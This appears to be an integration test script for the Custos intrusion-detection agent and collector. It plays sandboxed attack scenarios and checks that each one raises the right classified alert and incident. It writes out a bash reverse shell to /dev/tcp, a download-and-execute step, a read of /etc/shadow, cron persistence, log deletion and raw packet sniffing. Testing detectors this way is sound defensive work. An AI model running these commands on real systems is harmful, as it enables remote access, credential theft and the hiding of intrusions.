#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# Attack scenarios under the real agent and the real collector (issue 6):
# custos-agent run ships to custos-collector serve --rules collector/rules
# on 127.0.0.1, and scripted scenarios play one incident type each. Every
# scenario runs in a process tree of its own (started detached, so that
# its shell's parent is pid 1) and must produce its rule's alert with the
# right RSIT class, Budapest article and ATT&CK technique, grouped into
# an incident rooted at the scenario's shell that `incident show` tells.
# Benign activity (a package installed and purged, a compile, a tar
# backup) must raise no alert of the whole rule pack. Then `triage` over
# the archive twice gives the incidents streaming gave.
#
# Nothing on the machine changes: the download is served by python3
# http.server on 127.0.0.1 into this test's directory; the reverse shell
# and the packet captures (tcpdump, and a python3 script's AF_PACKET
# socket, which no tool name gives away) run in a network namespace of
# their own (the
# reverse-shell rule ignores loopback destinations, so the listener is on
# 192.0.2.1 on that namespace's lo); cron and log files are written in a
# private mount namespace over a tmpfs; `useradd -D` only prints the
# defaults; the package goes into a dpkg --root in this test's directory.
# Needs root (eBPF, namespaces): exits 77 otherwise, saying why.
set -u
name=test_triage_scenarios
live_tools="unshare ip setsid dpkg-deb dpkg cc tar useradd"
. "$(dirname "$0")/live_lib.sh"

live_serve --rules "$root/collector/rules"
live_agent

# scenario NAME SCRIPT: run SCRIPT with sh in a process tree of its own:
# setsid -f detaches it, and it waits until its parent is gone (pid 1 is
# its parent) before exec'ing the scenario's shell, whose pid is kept in
# NAME.pid. Returns when the scenario has ended (at most 15 s).
scenario() {
	setsid -f sh -c 'while [ "$(ps -o ppid= -p $$ | tr -d " ")" != 1 ]; do sleep 0.05; done
		echo $$ >"$1.pid"; exec sh -c "$2" >"$1.out" 2>&1' sh "$work/$1" "$2"
	i=0
	until [ -s "$work/$1.pid" ]; do
		i=$((i + 1))
		[ "$i" -gt 100 ] && fail "scenario $1 did not start"
		sleep 0.05
	done
	i=0
	while kill -0 "$(cat "$work/$1.pid")" 2>/dev/null; do
		i=$((i + 1))
		[ "$i" -gt 300 ] && fail "scenario $1 did not end"
		sleep 0.05
	done
}

# --- benign activity first ---------------------------------------------------
mkdir -p "$work/pkg/DEBIAN" "$work/pkg/usr/share/custos-benign" \
	"$work/dpkgroot/var/lib/dpkg/info" "$work/dpkgroot/var/lib/dpkg/updates"
: >"$work/dpkgroot/var/lib/dpkg/status"
printf 'Package: custos-benign-test\nVersion: 1.0\nArchitecture: all\nMaintainer: Custos tests <tests@example.invalid>\nDescription: a package for a triage test\n' \
	>"$work/pkg/DEBIAN/control"
echo 'hello' >"$work/pkg/usr/share/custos-benign/hello.txt"
printf '#include <stdio.h>\nint main(void) { puts("hello"); return 0; }\n' >"$work/hello.c"
scenario benign "
	dpkg-deb --build --root-owner-group '$work/pkg' '$work/benign.deb' &&
	dpkg --root='$work/dpkgroot' --force-not-root -i '$work/benign.deb' &&
	dpkg --root='$work/dpkgroot' -P custos-benign-test &&
	cc -O2 -o '$work/hello' '$work/hello.c' &&
	tar -czf '$work/backup.tgz' -C '$root' docs collector/rules &&
	echo benign-done"
grep -q benign-done "$work/benign.out" || fail "the benign activity failed: $(cat "$work/benign.out")"

# --- attacks -----------------------------------------------------------------
# download into /tmp and execute: a program served on 127.0.0.1
mkdir -p "$work/www" "$work/dl"
cp /bin/true "$work/www/payload"
"$py" -m http.server --bind 127.0.0.1 --directory "$work/www" 0 >"$work/http.out" 2>&1 &
http_pid=$!
live_pids=$http_pid
i=0
hport=""
until [ -n "$hport" ]; do
	hport=$(sed -n 's/.*port \([0-9][0-9]*\).*/\1/p' "$work/http.out" | head -n 1)
	i=$((i + 1))
	[ "$i" -gt 100 ] && fail "the http server did not start: $(cat "$work/http.out")"
	[ -z "$hport" ] && sleep 0.1
done
scenario download "
	'$py' -c 'import urllib.request; urllib.request.urlretrieve(\"http://127.0.0.1:$hport/payload\", \"$work/dl/payload\")' &&
	chmod +x '$work/dl/payload' && '$work/dl/payload' && echo ran"
kill "$http_pid"
wait "$http_pid" 2>/dev/null
http_pid=""
live_pids=""

# reverse shell: bash's stdin and stdout on a TCP connection to a listener
# (in a network namespace of its own, on 192.0.2.1: not loopback)
scenario revshell "
	unshare -n sh -c '
		ip link set lo up && ip addr add 192.0.2.1/32 dev lo || exit 1
		\"$py\" -c \"
import socket
s = socket.socket(); s.bind((\\\"192.0.2.1\\\", 4444)); s.listen(1); s.settimeout(10)
c, _ = s.accept(); c.sendall(b\\\"echo reverse-shell-ran; exit\\\\n\\\"); c.settimeout(5)
while c.recv(4096): pass
\" &
		sleep 0.5
		timeout 10 bash -c \"bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\"
		wait'"

# packet capture on the namespace's lo
if command -v tcpdump >/dev/null; then
	scenario sniff "unshare -n sh -c 'ip link set lo up; timeout 1 tcpdump -i lo -c 1 -w /dev/null'"
fi

# packet capture socket without a capture tool: a python3 script opens an
# AF_PACKET socket (ETH_P_ALL) on a network namespace's lo and reads one
# frame (socket records, custos_packet_socket.yml)
scenario pysniff "unshare -n sh -c 'ip link set lo up || exit 1
	\"$py\" -c \"
import socket
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
s.bind((\\\"lo\\\", 0)); s.settimeout(1)
try: s.recv(65535)
except OSError: pass
print(\\\"sniffed\\\")
\"'"
grep -q sniffed "$work/pysniff.out" || fail "the pysniff scenario failed: $(cat "$work/pysniff.out")"

# credential file read
scenario shadow "cat /etc/shadow >/dev/null"

# new account (useradd -D prints the defaults, changes nothing)
scenario account "useradd -D >/dev/null"

# cron persistence, in a private mount namespace over a tmpfs
scenario cron "unshare -m sh -c 'mount -t tmpfs custos-test /etc/cron.d &&
	echo \"* * * * * root /tmp/x\" >/etc/cron.d/custos-test'"

# log clearing, the same way under /var/log
scenario logs "unshare -m sh -c 'mount -t tmpfs custos-test /var/log &&
	echo x >/var/log/auth.log && rm -f /var/log/auth.log'"

sleep 1.5	# the last batches (batch_max_delay_ms 200)
live_stop

"$coll" alerts --dir "$C" >"$work/alerts.out" 2>&1 || fail "alerts: $(cat "$work/alerts.out")"
"$coll" incidents --dir "$C" --format jsonl >"$work/inc.jsonl" 2>&1 || fail "incidents"
"$coll" incidents --dir "$C" --host victim >"$work/inc.txt" 2>&1 || fail "incidents --host"
for s in benign download revshell sniff pysniff shadow account cron logs; do
	[ -f "$work/$s.pid" ] || continue
	id=$("$py" - "$work/inc.jsonl" "$(cat "$work/$s.pid")" <<'PY'
import json, sys
for l in open(sys.argv[1]):
    o = json.loads(l)
    if o["root_pid"] == int(sys.argv[2]):
        print(o["id"])
        break
PY
)
	echo "$id" >"$work/$s.incident"
	[ -n "$id" ] && "$coll" incident --dir "$C" show "$id" >"$work/$s.story" 2>&1
done

# expected: scenario, rule id (collector/rules/custos_*.yml), class, article,
# technique, a word the story shows
"$py" - "$work" "$C" "$coll" <<'PY'
import json, os, re, subprocess, sys
work, cdir, coll = sys.argv[1:4]
fails = 0
def check(what, good):
    global fails
    print(("ok   " if good else "FAIL ") + what)
    fails += 0 if good else 1
def read(p):
    return open(os.path.join(work, p)).read() if os.path.exists(os.path.join(work, p)) else ""
expected = [
    ("download", "7d1c7f3e-5a0b-4c51-9c7e-6b1f0e0a0001", "malicious-code/infected-system", "2", "T1105",
     "payload"),
    ("revshell", "7d1c7f3e-5a0b-4c51-9c7e-6b1f0e0a0002", "intrusions/unprivileged-account-compromise", "2",
     "T1059.004", "192.0.2.1"),
    ("sniff", "7d1c7f3e-5a0b-4c51-9c7e-6b1f0e0a0007", "information-gathering/sniffing", "3", "T1040",
     "tcpdump"),
    ("pysniff", "7d1c7f3e-5a0b-4c51-9c7e-6b1f0e0a0011", "information-gathering/sniffing", "3", "T1040",
     "python3 socket"),
    ("shadow", "7d1c7f3e-5a0b-4c51-9c7e-6b1f0e0a0003", "information-content-security/unauthorised-information-access",
     "2", "T1003.008", "/usr/bin/cat"),
    ("account", "7d1c7f3e-5a0b-4c51-9c7e-6b1f0e0a0005", "intrusions/privileged-account-compromise", "2",
     "T1136.001", "useradd"),
    ("cron", "7d1c7f3e-5a0b-4c51-9c7e-6b1f0e0a0004", "intrusions/privileged-account-compromise", "4",
     "T1053.003", "/etc/cron.d/custos-test"),
    ("logs", "7d1c7f3e-5a0b-4c51-9c7e-6b1f0e0a0006",
     "information-content-security/unauthorised-information-modification", "4", "T1070.002",
     "/usr/bin/rm"),
]
incidents = [json.loads(l) for l in open(os.path.join(work, "inc.jsonl"))]
for scen, rule, cls, art, tech, shown in expected:
    if not read(scen + ".pid"):
        print(f"skip {scen}: not run (tcpdump not installed)")
        continue
    pid = int(read(scen + ".pid"))
    inc = [o for o in incidents if o["root_pid"] == pid]
    check(f"{scen}: an incident rooted at the scenario's shell (pid {pid})", len(inc) == 1)
    if not inc:
        continue
    o = inc[0]
    check(f"{scen}: incident {o['id']} has class {cls}, article {art}, technique {tech}",
          cls in o["classes"] and art in o["articles"] and tech in o["techniques"])
    story = read(scen + ".story")
    alert = [l for l in story.splitlines() if ">>> ALERT" in l and f"rule={rule}" in l]
    check(f"{scen}: incident show tells the {rule} alert with its class, article, technique "
          "and evidence",
          any(f"class={cls} article={art} technique={tech}" in l and
              re.search(r"evidence=\d+:[0-9a-f]{64}:\d+$", l) for l in alert))
    check(f"{scen}: incident show has the tree's root and shows {shown}",
          re.search(rf"pid {pid} .*\[root\]", story) is not None and shown in story)
    # the alert sits right after its record in the story (in place)
    lines = story.splitlines()
    at = [i for i, l in enumerate(lines) if ">>> ALERT" in l and f"rule={rule}" in l]
    check(f"{scen}: the alert is in place, after an event line",
          bool(at) and all(i > 0 and " ref=" in lines[i - 1] or ">>> ALERT" in lines[i - 1]
                           for i in at))
# benign: no alert of any rule from its tree
bpid = int(read("benign.pid"))
tree = subprocess.run([coll, "timeline", "--dir", cdir, "--host", "victim", "--pid", str(bpid),
                       "--tree", "--format", "jsonl"], capture_output=True, text=True).stdout
tpids = {json.loads(l).get("pid") for l in tree.splitlines() if l.strip()}
apids = {int(m) for m in re.findall(r" pid=(\d+) ", read("alerts.out"))}
check(f"benign: its tree ({len(tpids)} processes: dpkg, cc, tar) is in the index", len(tpids) > 5)
check("benign: no alert from its processes (package install, compile, tar backup)",
      not (tpids & apids) and not [o for o in incidents if o["root_pid"] == bpid])
sys.exit(1 if fails else 0)
PY
[ $? -eq 0 ] || fails=$((fails + 1))

# triage over the archive, twice: the same incidents as streaming
cp "$work/inc.jsonl" "$work/inc.streamed"
for n in 1 2; do
	"$coll" triage --dir "$C" --rules "$root/collector/rules" >"$work/triage$n.out" 2>&1 ||
		fail "triage: $(cat "$work/triage$n.out")"
	"$coll" incidents --dir "$C" --format jsonl >"$work/inc$n.jsonl" || fail "incidents"
done
if cmp -s "$work/inc.streamed" "$work/inc1.jsonl" && cmp -s "$work/inc1.jsonl" "$work/inc2.jsonl"; then
	ok "triage over the archive, twice: the incidents streaming gave ($(wc -l <"$work/inc1.jsonl"))"
else
	bad "triage over the archive changed the incidents"
	diff "$work/inc.streamed" "$work/inc1.jsonl" | head -n 10
fi
# the court bundle carries them: alerts.json and incidents.json, in the
# signed manifest, each alert pointing at a record of an exported batch
"$coll" export --dir "$C" --case SCEN-1 --host victim --from 2000-01-01T00:00:00Z \
	--to 2100-01-01T00:00:00Z --reason "triage scenarios" --legal-basis test --requester ci \
	--out "$work/bundle" >"$work/export.out" 2>&1 || fail "export: $(cat "$work/export.out")"
verify="$root/${BUILD:-build}/custos-verify"
if [ -x "$verify" ]; then
	"$verify" "$work/bundle" --collector-key "$C/collector.pub" >"$work/verify.out" 2>&1
	[ $? -eq 0 ] && grep -q 'ok    alerts.json: [1-9][0-9]* alert(s), each pointing at a record' \
		"$work/verify.out" && ok "export: the bundle verifies, alerts.json checked against evidence/" ||
		{ bad "export: custos-verify"; cat "$work/verify.out"; }
fi
"$py" - "$work/bundle" "$work/inc1.jsonl" <<'PY' && ok "export: alerts.json and incidents.json have every scenario's alert, classified, in its incident, listed in the manifest" || bad "export: alerts.json / incidents.json"
import json, sys
b = sys.argv[1]
al = json.load(open(b + "/alerts.json"))["alerts"]
inc = json.load(open(b + "/incidents.json"))["incidents"]
files = {f["path"] for f in json.load(open(b + "/manifest.json"))["files"]}
ids = {o["id"] for o in inc}
want = {"0001": "malicious-code/infected-system", "0002": "intrusions/unprivileged-account-compromise",
        "0003": "information-content-security/unauthorised-information-access",
        "0004": "intrusions/privileged-account-compromise",
        "0005": "intrusions/privileged-account-compromise",
        "0006": "information-content-security/unauthorised-information-modification",
        "0011": "information-gathering/sniffing"}
for k, cls in want.items():
    a = [x for x in al if x["rule_id"].endswith("-6b1f0e0a" + k)]
    assert a and all(x["taxonomy"] == cls and x["budapest_article"] and x["attack_technique"]
                     and x["incident"] in ids and x["evidence"]["batch_hash"] for x in a), k
streamed = {json.loads(l)["id"] for l in open(sys.argv[2])}
assert ids == streamed, (ids, streamed)
assert {"alerts.json", "incidents.json"} <= files
PY

"$coll" incident --dir "$C" show inc-does-not-exist >"$work/unknown.out" 2>&1
[ $? -eq 1 ] && grep -q "no incident 'inc-does-not-exist'" "$work/unknown.out" &&
	ok "incident show of an unknown id: a clear error" || bad "incident show of an unknown id"
"$coll" incident --dir "$C" >/dev/null 2>"$work/usage.out"
[ $? -eq 2 ] && grep -q '^Usage: custos-collector incident' "$work/usage.out" &&
	ok "incident without show ID: usage, exit 2" || bad "incident usage"
"$coll" incidents --dir "$C" --format xml >/dev/null 2>&1
[ $? -eq 2 ] && ok "incidents --format xml: usage, exit 2" || bad "incidents usage"

if [ "$fails" -ne 0 ]; then
	echo "--- incidents:"; cat "$work/inc.txt"
	echo "--- alerts:"; cat "$work/alerts.out"
	for s in download revshell sniff pysniff shadow account cron logs; do
		echo "--- $s:"; cat "$work/$s.out" 2>/dev/null; head -n 30 "$work/$s.story" 2>/dev/null
	done
	echo "$name: $fails failure(s)"
	exit 1
fi
echo "$name: all passed"
